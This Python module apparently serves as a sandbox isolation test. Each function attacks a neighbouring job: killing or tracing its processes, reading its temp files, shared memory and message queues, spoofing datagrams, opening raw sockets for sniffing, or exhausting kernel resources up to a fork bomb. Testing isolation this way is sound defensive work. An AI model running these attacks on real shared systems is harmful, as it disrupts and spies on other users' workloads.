"""Attacks of one job on another. Each function is one, and its first line says what it would gain."""

from __future__ import annotations

import ctypes
import fcntl
import os
import resource
import signal
import socket
import struct
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from kit import buffer, call, each, hold, libc, loot, pids, say, scene, tell

IP_TRANSPARENT, IP_FREEBIND, IPV6_FREEBIND, IPV6_TRANSPARENT = 19, 15, 78, 75


def neighbours() -> list[dict[str, Any]]:
    return list(scene()["neighbours"])


# What is another job's


def kill_the_neighbour() -> None:
    """the end of another job"""
    for number in (signal.SIGKILL, signal.SIGSTOP):
        each(*(lambda one=one, number=number: os.kill(one["pid"], number) for one in neighbours()))
    each(*(lambda one=one: os.setpriority(os.PRIO_PROCESS, one["pid"], 19) for one in neighbours()))


def trace_the_neighbour() -> None:
    """control over another job's process"""
    each(*(lambda one=one: call("ptrace", 0x4206, one["pid"], 0, 0) for one in neighbours()))
    hold()


def files_of_the_neighbour() -> None:
    """what another job has in /tmp and /dev/shm"""
    names = [one["name"] for one in neighbours()]
    ways = [f"{way}/{name}" for name in names for way in ("/tmp", "/dev/shm", "/var/tmp")]
    ways += [f"/proc/{pid}/root{way}" for pid in [*pids(), *(one["pid"] for one in neighbours())] for way in ways[:]]
    each(*(lambda way=way: loot(way) for way in ways))


def memory_of_the_neighbour() -> None:
    """another job's System V shared memory, by number and by key"""
    libc.shmat.restype = ctypes.c_void_p
    for one in neighbours():
        for number in (one["shm"], libc.shmget(one["key"], 0, 0)):
            found = libc.shmat(number, None, 0o10000)
            if found not in (None, ctypes.c_void_p(-1).value):
                tell(ctypes.string_at(found, 64))


def messages_of_the_neighbour() -> None:
    """another job's messages"""
    room = ctypes.create_string_buffer(1 << 14)
    for one in neighbours():
        queue = libc.mq_open(f"/{one['name']}".encode(), os.O_RDONLY | os.O_NONBLOCK)
        if queue >= 0 and libc.mq_receive(queue, room, 1 << 14, None) > 0:
            tell(room.raw[:64])


def socket_of_the_neighbour() -> None:
    """a service of another job on an abstract socket"""
    each(*(lambda one=one: socket.socket(socket.AF_UNIX).connect("\0" + one["name"]) for one in neighbours()))


def port_of_the_neighbour() -> None:
    """a network service of another job"""

    def connect(one: dict[str, Any]) -> None:
        with socket.socket() as made:
            made.settimeout(0.7)
            made.connect((one["address"], one["port"]))

    each(*(lambda one=one: connect(one) for one in neighbours()))


def datagrams_to_the_neighbour() -> None:
    """datagrams to another job, with its own address and with others'"""

    def send(one: dict[str, Any], source: str, *options: tuple[int, int]) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            for level, option in options:
                made.setsockopt(level, option, 1)
            if source:
                made.bind((source, 0))
            made.sendto(b"x", (one["address"], one["port"]))

    free, transparent = (socket.SOL_IP, IP_FREEBIND), (socket.SOL_IP, IP_TRANSPARENT)
    for one in neighbours():
        sources = ("192.0.2.1", "169.254.1.1", one["address"], "127.0.0.1")
        each(lambda one=one: send(one, ""))
        each(*(lambda one=one, source=source: send(one, source, free) for source in sources))
        each(*(lambda one=one, source=source: send(one, source, transparent) for source in sources))
    time.sleep(0.3)


def answer_for_the_neighbour() -> None:
    """another job's packets: ARP answers, neighbour and router advertisements, sniffing"""

    def raw(*kind: int) -> int:
        return socket.socket(*kind).detach()

    got = each(
        lambda: raw(17, socket.SOCK_RAW, socket.htons(3)),
        lambda: raw(17, socket.SOCK_DGRAM, socket.htons(0x806)),
        lambda: raw(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
        lambda: raw(socket.AF_INET, 10, socket.htons(3)),
    )
    if got:
        hold()


# What there is only so much of


def take(one: Callable[[], Any], most: int) -> int:
    """As often as it works."""
    taken = 0
    try:
        while taken < most:
            one()
            taken += 1
    except OSError as error:
        say(taken, error)
    return taken


def many_descriptors() -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def use_up_inotify() -> None:
    """every inotify instance and watch"""
    many_descriptors()
    take(lambda: checked(libc.inotify_init()), 5000)
    end = time.monotonic() + 0.5
    while time.monotonic() < end:  # what others give back for a moment
        take(lambda: checked(libc.inotify_init()), 100)
    hold()


def use_up_terminals() -> None:
    """every pseudo terminal"""
    many_descriptors()
    reader, writer = os.pipe()
    for _ in range(4):  # one process may not have so many files open
        if os.fork() == 0:
            libc.prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG
            take(lambda: os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY), 5000)
            os.write(writer, b"t")
            time.sleep(600)
        os.read(reader, 1)
    hold()


def use_up_signals() -> None:
    """every signal that may wait, and with them timers"""
    signal.pthread_sigmask(signal.SIG_BLOCK, [40])
    take(lambda: checked(libc.sigqueue(os.getpid(), 40, None)), 500_000)
    hold()


def use_up_messages() -> None:
    """all memory for message queues"""
    attributes = struct.pack("llll", 0, 10, 8192, 0) + bytes(32)
    name = f"/{scene()['key']}".encode()

    def make() -> None:
        checked(libc.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, attributes))
        libc.mq_unlink(name)

    take(make, 250)
    hold()


def use_up_asynchronous_requests() -> None:
    """every request of native asynchronous I/O, of which the machine has one number for all"""
    take(lambda: call("io_setup", 1024, buffer(bytes(8))), 2000)
    hold()


def use_up_shared_memory() -> None:
    """every System V segment and semaphore"""
    take(lambda: checked(libc.shmget(0, 4096, 0o1600)), 5000)
    take(lambda: checked(libc.semget(0, 250, 0o1600)), 2000)
    hold()


def use_up_pipes() -> None:
    """every pipe buffer that a user may have"""
    many_descriptors()

    def fill() -> None:
        _, writer = os.pipe()
        fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ

    take(fill, 2000)
    take(os.pipe, 2000)
    hold()


def use_up_files() -> None:
    """all space and every inode of the memory file systems"""
    kept: list[int] = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run"):
        try:
            os.mkdir(own := f"{folder}/{scene()['key']}-full")
            kept.append(one := os.open(f"{own}/large", os.O_CREAT | os.O_WRONLY))
            os.unlink(f"{own}/large")
        except OSError as error:
            say(error)
            continue
        take(lambda one=one: checked_write(one), 88 if folder == "/tmp" else 20)
        for name in range(4000):
            if not each(lambda own=own, name=name: Path(f"{own}/{name}").touch() or True):
                break
    hold()


def checked_write(fd: int) -> None:
    if os.write(fd, bytes(1 << 20)) != 1 << 20:
        raise OSError(28, "no room")


def use_up_socket_memory() -> None:
    """memory beyond its limit, in the buffers of TCP sockets"""
    many_descriptors()
    server = socket.create_server(("127.0.0.1", 0), backlog=128)
    kept: list[socket.socket] = []
    end = time.monotonic() + 5

    def fill() -> None:
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        one.connect(server.getsockname())
        kept.extend((one, server.accept()[0]))
        one.setblocking(False)
        try:
            while time.monotonic() < end:
                one.send(bytes(1 << 18))
        except BlockingIOError:
            pass

    take(fill, 300)
    hold()


def use_up_processes() -> None:
    """every process: a fork bomb"""

    def fork() -> None:
        if os.fork() == 0:
            libc.prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG
            time.sleep(600)
            os._exit(0)

    take(fork, 300)
    hold()
